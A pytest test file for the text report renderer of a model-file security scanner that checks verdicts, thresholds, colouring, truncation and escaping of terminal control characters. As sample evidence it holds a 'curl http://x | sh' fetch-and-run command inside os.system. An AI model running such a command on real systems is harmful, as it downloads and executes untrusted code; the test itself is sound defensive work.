from __future__ import annotations

import dataclasses
import random

import pytest
from report_samples import PARTIAL, TORCH, critical_call
from report_samples import clean_result as _clean
from report_samples import incomplete_result as _incomplete
from report_samples import sample_result as _sample

from modelshield.findings import (
    Confidence,
    Coverage,
    CoverageStatus,
    Finding,
    Location,
    ScanError,
    ScanResult,
    Severity,
)
from modelshield.report import FORMATS, render
from modelshield.report.text import (
    MAX_BELOW_THRESHOLD_PER_FILE,
    MAX_EVIDENCE,
    render_text,
    verdict_line,
)


@pytest.fixture
def result() -> ScanResult:
    return _sample()


@pytest.fixture
def clean_result() -> ScanResult:
    return _clean()


@pytest.fixture
def incomplete_result() -> ScanResult:
    return _incomplete()


def last_line(text: str) -> str:
    return text.rstrip("\n").splitlines()[-1]


def test_unsafe_verdict_counts_findings_and_files(result: ScanResult) -> None:
    out = render_text(result, threshold=Severity.HIGH)
    assert last_line(out) == (
        "UNSAFE: 2 findings at or above high in 2 of 6 files "
        "(also 2 inputs could not be fully analysed and 1 error occurred)"
    )


def test_unsafe_verdict_single(result: ScanResult) -> None:
    only = ScanResult(findings=(critical_call(),), coverage=result.coverage[:2])
    assert verdict_line(only, Severity.HIGH) == "UNSAFE: 1 finding at or above high in 1 of 1 file"


def test_clean_verdict(clean_result: ScanResult) -> None:
    out = render_text(clean_result, threshold=Severity.HIGH)
    assert last_line(out) == "CLEAN: 3 files fully analysed, no findings at or above high"
    assert "No findings." in out


def test_incomplete_verdict(incomplete_result: ScanResult) -> None:
    out = render_text(incomplete_result, threshold=Severity.HIGH)
    assert last_line(out) == (
        "INCOMPLETE: no findings at or above high, but 1 input could not be fully analysed"
        " — not a clean result"
    )


def test_incomplete_verdict_from_error_only(clean_result: ScanResult) -> None:
    broken = dataclasses.replace(clean_result, errors=(ScanError("d.pkl", "boom"),))
    line = verdict_line(broken, Severity.HIGH)
    assert line.startswith("INCOMPLETE:")
    assert "1 error occurred" in line
    out = render_text(broken, threshold=Severity.HIGH)
    assert "Errors (1):" in out
    assert "d.pkl: boom" in out


def test_threshold_controls_full_display_and_verdict(result: ScanResult) -> None:
    high = render_text(result, threshold=Severity.HIGH)
    medium = render_text(result, threshold=Severity.MEDIUM)
    critical = render_text(result, threshold=Severity.CRITICAL)
    # the medium finding is a one-line summary below "high", a full entry at "medium"
    assert "below the high threshold" in high
    assert "\n                foo.bar\n" not in high
    assert "\n                foo.bar\n" in medium
    assert last_line(medium).startswith("UNSAFE: 3 findings at or above medium in 2 of 6")
    assert last_line(critical).startswith("UNSAFE: 1 finding at or above critical in 1 of 6")
    # below-threshold findings are never hidden entirely
    for out in (high, medium, critical):
        assert "MS108 persistent-id" in out
        assert "MS110 trailing-data" in out


def test_full_finding_block(result: ScanResult) -> None:
    out = render_text(result, threshold=Severity.HIGH)
    assert "CRITICAL  MS101 dangerous-call  os.system is called when the file is loaded" in out
    assert f"at {TORCH}[archive/data.pkl] (offset 58, opcode #12, REDUCE)" in out
    # evidence on its own, further indented line
    assert "\n                os.system('curl http://x | sh')\n" in out
    assert "why: runs a shell command" in out
    assert "confidence high, CWE-502" in out


def test_findings_grouped_by_file_most_severe_first(result: ScanResult) -> None:
    out = render_text(result, threshold=Severity.HIGH)
    lines = out.splitlines()
    headings = [line for line in lines if line.startswith(("models/evil", PARTIAL))]
    assert headings == [TORCH, f"{PARTIAL} (not fully analysed)"]
    block = out[out.index(f"{PARTIAL} (not fully analysed)\n") :]
    assert block.index("MS102") < block.index("MS105") < block.index("MS110")


def test_coverage_section(result: ScanResult) -> None:
    out = render_text(result, threshold=Severity.HIGH)
    assert "Coverage: 3 pickle, 1 text, 1 unknown, 1 zip" in out
    assert "Not fully analysed (2):" in out
    assert f"PARTIAL      {PARTIAL} (pickle): opcode limit reached" in out
    assert "INCONCLUSIVE models/blob.bin (unknown): format not recognised" in out
    assert "Skipped (1):" in out
    assert "models/README.md (text): not a model file" in out
    assert "1 finding suppressed by configuration" in out


def test_color_on_and_off(result: ScanResult) -> None:
    plain = render_text(result, threshold=Severity.HIGH)
    colored = render_text(result, threshold=Severity.HIGH, color=True)
    assert "\x1b" not in plain
    assert "\x1b[1;97;41mCRITICAL\x1b[0m" in colored
    assert "\x1b[1;31mHIGH" in colored
    assert "\x1b[1;31mUNSAFE:" in colored
    stripped = colored
    codes = ("\x1b[1;97;41m", "\x1b[1;31m", "\x1b[1;33m", "\x1b[33m", "\x1b[36m", "\x1b[2m")
    for code in (*codes, "\x1b[1m"):
        stripped = stripped.replace(code, "")
    assert stripped.replace("\x1b[0m", "") == plain


def test_verdict_colors(clean_result: ScanResult, incomplete_result: ScanResult) -> None:
    assert "\x1b[1;32mCLEAN:" in render_text(clean_result, threshold=Severity.HIGH, color=True)
    out = render_text(incomplete_result, threshold=Severity.HIGH, color=True)
    assert "\x1b[1;33mINCOMPLETE:" in out


def test_long_evidence_is_truncated() -> None:
    evidence = "os.system('" + "A" * 5000 + "')"
    finding = dataclasses.replace(critical_call(), evidence=evidence)
    res = ScanResult(
        findings=(finding,), coverage=(Coverage(TORCH, CoverageStatus.SCANNED, "zip"),)
    )
    out = render_text(res, threshold=Severity.HIGH)
    (line,) = [line for line in out.splitlines() if "AAAA" in line]
    assert f"[truncated, {len(evidence)} characters in all]" in line
    assert line.count("A") <= MAX_EVIDENCE
    assert len(line) < MAX_EVIDENCE + 80


def test_short_evidence_is_not_truncated(result: ScanResult) -> None:
    assert "truncated" not in render_text(result, threshold=Severity.HIGH)


def test_hostile_strings_are_escaped() -> None:
    finding = Finding(
        "MS101",
        Severity.CRITICAL,
        Confidence.HIGH,
        "evil\x1b[2Jmessage",
        Location("x\x1b[31m.pkl", member="a\u202eb\n"),
        evidence="os.system('id')\r\nsafe\u2066",
    )
    res = ScanResult(
        findings=(finding,), coverage=(Coverage("x\x1b[31m.pkl", CoverageStatus.SCANNED, "pickle"),)
    )
    out = render_text(res, threshold=Severity.HIGH)
    assert "\x1b" not in out
    assert "\u202e" not in out and "\u2066" not in out
    assert "x\\x1b[31m.pkl" in out
    assert "evil\\x1b[2Jmessage" in out
    assert "os.system('id')\\r\\nsafe\\u2066" in out
    assert "a\\u202eb\\n" in out
    # colors stay, hostile escapes do not
    colored = render_text(res, threshold=Severity.HIGH, color=True)
    assert "\x1b[31m.pkl" not in colored


def test_undecodable_path_is_escaped() -> None:
    path = b"bad\xff.pkl".decode("utf-8", "surrogateescape")
    res = ScanResult(findings=(), coverage=(Coverage(path, CoverageStatus.SCANNED, "pickle"),))
    out = render_text(res, threshold=Severity.HIGH)
    out.encode("utf-8")  # printable on any UTF-8 terminal
    assert "CLEAN: 1 file fully analysed" in out


def test_below_threshold_findings_are_capped_per_file() -> None:
    findings = tuple(
        Finding("MS108", Severity.INFO, Confidence.HIGH, f"pid {i}", Location("a.pt", offset=i))
        for i in range(MAX_BELOW_THRESHOLD_PER_FILE + 5)
    )
    res = ScanResult(findings=findings, coverage=(Coverage("a.pt", CoverageStatus.SCANNED, "zip"),))
    out = render_text(res, threshold=Severity.HIGH)
    assert f"below the high threshold ({MAX_BELOW_THRESHOLD_PER_FILE + 5}):" in out
    assert out.count("MS108 persistent-id") == MAX_BELOW_THRESHOLD_PER_FILE
    assert "... and 5 more below the threshold" in out
    assert last_line(out) == "CLEAN: 1 file fully analysed, no findings at or above high"


def test_output_is_deterministic(result: ScanResult) -> None:
    expected = render_text(result, threshold=Severity.HIGH)
    rng = random.Random(1234)  # noqa: S311
    for _ in range(5):
        findings = list(result.findings)
        coverage = list(result.coverage)
        rng.shuffle(findings)
        rng.shuffle(coverage)
        shuffled = dataclasses.replace(result, findings=tuple(findings), coverage=tuple(coverage))
        assert render_text(shuffled, threshold=Severity.HIGH) == expected


def test_unknown_rule_is_shown() -> None:
    finding = Finding("MS999", Severity.HIGH, Confidence.LOW, "future rule", Location("a.pkl"))
    res = ScanResult(findings=(finding,), coverage=())
    assert "MS999 unknown-rule  future rule" in render_text(res, threshold=Severity.HIGH)


def test_header(result: ScanResult) -> None:
    first = render_text(result, threshold=Severity.HIGH).splitlines()[0]
    assert first.startswith("modelshield ")
    assert "6 files, 5.0 KiB read in 0.25 s, threshold high" in first


def test_render_dispatch(result: ScanResult) -> None:
    assert FORMATS == ("text", "json", "sarif")
    assert render(result, "text", threshold=Severity.HIGH) == render_text(
        result, threshold=Severity.HIGH
    )
    assert "\x1b" in render(result, "text", threshold=Severity.HIGH, color=True)
    assert render(result, "json", threshold=Severity.HIGH).startswith("{")
    assert '"version": "2.1.0"' in render(result, "sarif", threshold=Severity.HIGH)
    with pytest.raises(ValueError, match="unknown report format 'xml'"):
        render(result, "xml", threshold=Severity.HIGH)
